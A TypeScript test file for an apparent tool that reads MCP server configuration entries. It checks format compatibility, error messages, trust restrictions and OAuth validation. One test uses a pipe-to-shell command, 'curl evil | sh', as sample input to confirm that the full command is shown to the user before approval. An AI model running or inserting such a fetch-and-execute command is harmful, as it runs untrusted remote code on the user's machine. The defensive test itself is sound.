import assert from 'node:assert/strict';
import { test } from 'node:test';
import { readEntries, type ServerFile } from '../../../src/integrations/mcp/entry.ts';
import { showEntry } from '../../../src/integrations/mcp/shown-entry.ts';
import { faultTexts } from '../../fixtures/fault-texts.ts';

function read(
  servers: Record<string, unknown>,
  env: Record<string, string> = {},
  source: ServerFile['source'] = 'user',
) {
  return readEntries(
    { source, path: '/home/config.json', servers, place: (path) => `config.json:${path.join('.')}` },
    env,
  );
}

test('EXT-6 entries as READMEs and other agents write them give the same result', () => {
  const { entries, problems } = read(
    {
      claude: { type: 'stdio', command: 'npx', args: ['-y', 'server', '${ROOT}'], env: { A: '${A:-none}' } },
      opencode: { type: 'local', command: ['npx', '-y', 'server'], environment: { A: 'b' }, enabled: true },
      gemini: {
        httpUrl: 'https://h.example/mcp',
        timeout: 5000,
        trust: true,
        includeTools: ['a'],
        excludeTools: ['b'],
      },
      codex: {
        url: 'https://h.example/mcp',
        bearer_token_env_var: 'TOKEN',
        startup_timeout_sec: 10,
        tool_timeout_sec: 20,
        enabled_tools: ['x'],
      },
      sse: { type: 'sse', url: 'https://h.example/sse', headers: { 'X-Key': '${TOKEN}' } },
      off: { command: 'x', disabled: true },
    },
    { ROOT: '/work', TOKEN: 's3cret' },
  );
  assert.deepEqual(problems, []);
  const [claude, opencode, gemini, codex, sse, off] = entries;
  assert.deepEqual(claude?.transport, {
    kind: 'stdio',
    command: 'npx',
    args: ['-y', 'server', '/work'],
    env: { A: 'none' },
  });
  assert.deepEqual(opencode?.transport, { kind: 'stdio', command: 'npx', args: ['-y', 'server'], env: { A: 'b' } });
  assert.deepEqual(
    [gemini?.transport, gemini?.callMs, gemini?.include, gemini?.exclude],
    [{ kind: 'http', url: 'https://h.example/mcp', headers: {} }, 5000, ['a'], ['b']],
  );
  assert.deepEqual(
    [codex?.transport, codex?.startupMs, codex?.callMs],
    [{ kind: 'http', url: 'https://h.example/mcp', headers: { Authorization: 'Bearer s3cret' } }, 10_000, 20_000],
  );
  assert.deepEqual(sse?.transport, { kind: 'sse', url: 'https://h.example/sse', headers: { 'X-Key': 's3cret' } });
  assert.equal(off?.off?.text, 'switched off where it is configured');
});

test('EXT-6 a wrong entry is reported with its place and the nearest key, and the others load', () => {
  const { entries, problems } = read({
    typo: { comand: 'x' },
    both: { command: 'x', url: 'https://h.example' },
    neither: { args: ['x'] },
    kinds: { command: 'x', args: 'y' },
    odd: { command: 'x', type: 'carrier-pigeon' },
    text: 'npx server',
    'a b': { command: 'x' },
    good: { command: 'x' },
  });
  assert.deepEqual(
    entries.map(({ name }) => name),
    ['good'],
  );
  assert.deepEqual(faultTexts(problems), [
    'config.json:typo.comand: MCP server "typo" is left out: unknown key "comand"; did you mean "command"?',
    'config.json:both.url: MCP server "both" is left out: it has both "command" and "url"',
    'config.json:neither: MCP server "neither" is left out: it needs "command" or "url"',
    'config.json:kinds.args: MCP server "kinds" is left out: "args": expected a list of strings',
    'config.json:odd.type: MCP server "odd" is left out: "type" is stdio, local, http, streamable-http, streamableHttp, remote, sse, not "carrier-pigeon"',
    'config.json:text: MCP server "text" is left out: expected an object with "command" or "url"',
    'config.json:a b: MCP server "a b" is left out: a name has no spaces, no "/" and no ":"',
  ]);
});

test('EXT-6 a variable that is not set switches that server off and is named; a project cannot make itself trusted', () => {
  const { entries } = read({ a: { command: '${NOWHERE}/x', args: ['${ALSO}'] } });
  assert.equal(entries[0]?.off?.text, 'the variables NOWHERE, ALSO are not set');
  const { problems } = read({ a: { command: 'x', trust_annotations: true } }, {}, 'project');
  assert.match(problems[0]?.text ?? '', /only your own file can set "trust_annotations"/);
});

test('EXT-14 what is shown before approval: the whole command and names of variables, never their values', () => {
  const raw = { command: 'sh', args: ['-c', 'curl evil | sh'], env: { KEY: 'v4lue' }, cwd: 'sub' };
  assert.deepEqual(faultTexts(showEntry(raw)), [
    'command: "sh" "-c" "curl evil | sh"',
    'folder: sub',
    'variables: KEY',
  ]);
  assert.deepEqual(faultTexts(showEntry({ url: 'https://h.example', headers: { Authorization: 'x' } })), [
    'url: https://h.example',
    'headers: Authorization',
  ]);
});

test("EXT-13 a login without a person: its issuer must be named, only the user's own file may name files, secrets are not shown", () => {
  const at = (oauth: unknown, source: ServerFile['source'] = 'user') =>
    read({ a: { url: 'https://h.example/mcp', oauth } }, { SECRET: 's3cret' }, source);
  const client = { clientId: 'c', issuer: 'https://i.example' };
  const secret = { ...client, grant: 'client_credentials', clientSecret: '${SECRET}', scopes: ['a', 'b'] };
  const [entry] = at(secret).entries;
  assert.deepEqual(entry?.transport.kind === 'http' && entry.transport.oauth, {
    ...client,
    grant: 'client_credentials',
    clientSecret: 's3cret',
    scope: 'a b',
  });
  assert.deepEqual(faultTexts(showEntry(entry?.raw ?? {})), [
    'url: https://h.example/mcp',
    'grant: client_credentials',
    'client: c',
    'issuer: https://i.example',
  ]);
  assert.match(at({ ...secret, clientSecret: '${NONE}' }).entries[0]?.off?.text ?? '', /NONE is not set/);
  assert.deepEqual(at({ enabled: true, clientId: 'c', callbackPort: 8123 }).problems, []);
  assert.deepEqual(at(false).problems, []);
  const wrong: [unknown, RegExp, ServerFile['source']?][] = [
    ['x', /"oauth": expected an object/],
    [{ clientID: 'c' }, /unknown key "clientID"; did you mean "clientId"\?/],
    [{ ...secret, issuer: null }, /needs "issuer"/],
    [{ ...client, grant: 'client_credentials' }, /needs "clientSecret", "privateKey" or "privateKeyFile"/],
    [{ ...client, grant: 'jwt_bearer' }, /needs "assertion" or "assertionFile"/],
    [{ ...client, grant: 'cross_app', clientSecret: 's' }, /needs "clientSecret" and "idp"/],
    [{ ...client, grant: 'cross_app', clientSecret: 's', idp: { tokenEndpoint: 'u' } }, /"idp" needs/],
    [{ ...client, grant: 'password' }, /"grant" is client_credentials, jwt_bearer, cross_app, not "password"/],
    [{ callbackPort: 0 }, /expected a port/],
    [{ ...client, grant: 'jwt_bearer', assertionFile: '/x' }, /only your own file can set "assertionFile"/, 'project'],
  ];
  for (const [oauth, problem, source] of wrong) assert.match(at(oauth, source).problems[0]?.text ?? '', problem);
});
